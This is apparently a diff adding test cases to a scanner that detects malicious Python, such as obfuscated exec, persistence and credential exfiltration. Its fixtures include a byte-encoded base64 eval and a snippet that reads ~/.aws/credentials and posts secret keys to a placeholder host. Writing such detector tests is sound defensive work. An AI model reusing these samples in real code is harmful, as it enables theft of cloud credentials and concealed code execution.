@@ -237,6 +237,11 @@ test('sys.executable started with inline code on import reads as python -c: high
   const launch = ruleOf(list, 'process-launch-payload');
   assert.equal(launch?.severity, 'high');
   assert.match(launch!.message, /another Python running inline code/);
+  // a child Python whose output the import reads is a query, its inline code judged on its own
+  const query = findings(
+    'import subprocess, sys\nVERSION = subprocess.check_output([sys.executable, "-c", "import platform; print(platform.mac_ver()[0])"])\n',
+  );
+  assert.equal(ruleOf(query, 'process-launch-payload'), undefined);
 });
 
 test("a provider's secret sent to a hard-coded host of another owner is high; to its own service it is not", () => {
@@ -326,4 +331,31 @@ test('an autostart place named in a function that downloads is high even when ca
     'import os, requests\ndef install(url):\n    open("/tmp/tool", "wb").write(requests.get(url).content)\n    open(os.path.expanduser("~/.bashrc"), "a").write("export PATH=$PATH:/opt/tool")\n',
   );
   assert.notEqual(ruleOf(installer, 'persistence')?.severity, 'high');
+});
+
+test('bytes([...]) lists are read as the text they spell: a module name hidden as byte values is found', () => {
+  const hidden = findings(
+    'f = eval(getattr(__import__(bytes([98, 97, 115, 101, 54, 52]).decode()), bytes([98, 54, 52, 100, 101, 99, 111, 100, 101]).decode())(bytes([90, 88, 90, 104, 98, 65, 61, 61])).decode())\n',
+  );
+  assert.ok(hidden.some((f) => f.rule === 'exec-decoded-payload' && f.severity === 'critical'));
+  assert.match(ruleOf(hidden, 'dynamic-import')?.message ?? '', /imports base64/);
+});
+
+test('a reader object loaded from a credential file carries its data: config.read(~/.aws/credentials) then config.get', () => {
+  const stealer = findings(
+    [
+      'import configparser, os, requests',
+      'def push(hook):',
+      '    config = configparser.RawConfigParser()',
+      '    config.read(os.path.join(os.path.expanduser("~"), ".aws/credentials"))',
+      '    keys = [config.get(s, "aws_secret_access_key") for s in config.sections()]',
+      '    requests.post("https://hooks.example/in", json=keys)',
+    ].join('\n'),
+  );
+  assert.equal(ruleOf(stealer, 'exfiltration')?.severity, 'high');
+  // the module used to build the path is not made a carrier of the file's data
+  const paths = findings(
+    'import os, requests\ndef check():\n    p = os.path.join(os.path.expanduser("~"), ".aws/credentials")\n    requests.post("https://api.example/x", data=os.path.exists("/tmp"))\n',
+  );
+  assert.equal(ruleOf(paths, 'exfiltration'), undefined);
 });
